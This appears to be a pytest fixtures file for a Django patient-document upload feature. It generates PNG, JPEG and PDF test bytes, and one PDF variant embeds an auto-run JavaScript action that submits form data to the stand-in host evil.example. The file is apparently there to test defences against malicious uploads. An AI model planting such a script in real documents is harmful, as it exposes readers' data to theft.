"""Files for the document tests, made in memory: real PNG, JPEG and PDF bytes, and liars."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from documents import services
from documents.models import DocumentCategory
from tests.factories import PatientFactory

# Text that must never appear in stored bytes (encryption at rest).
SECRET_TEXT = b"PATIENT-SECRET-CONTENT-7f3a"


def png_bytes(size=(64, 40), colour=(30, 120, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="PNG")
    return out.getvalue()


def jpeg_bytes(size=(800, 500), colour=(200, 60, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="JPEG")
    return out.getvalue()


def pdf_bytes(text: bytes = SECRET_TEXT, javascript: bool = False, page_script: bool = False) -> bytes:
    """A small valid PDF whose page stream holds ``text`` in clear; optionally with a script run when it opens
    (the catalogue's OpenAction) or when its page opens (the page's additional actions)."""
    stream = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
    action = b" /OpenAction 5 0 R" if javascript else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + action + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        + (b" /AA << /O 5 0 R >>" if page_script else b"")
        + b" >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('https://evil.example/')) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def upload_file(content: bytes, name: str, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture
def patient(db):
    return PatientFactory(first_name="Maria", last_name="Lopez")


@pytest.fixture
def category():
    def get(code: str) -> DocumentCategory:
        return DocumentCategory.objects.get(code=code)

    return get


@pytest.fixture
def stored_document(admin_user, patient, category):
    """``stored_document(code="insurance_card", content=..., name=...)`` -> a Document uploaded by the admin."""

    def make(code="insurance_card", content=None, name="card.png", title="Card front"):
        return services.upload_document(
            actor=admin_user,
            patient=patient,
            upload=upload_file(content if content is not None else png_bytes(), name),
            filename=name,
            category=category(code),
            title=title,
        )

    return make
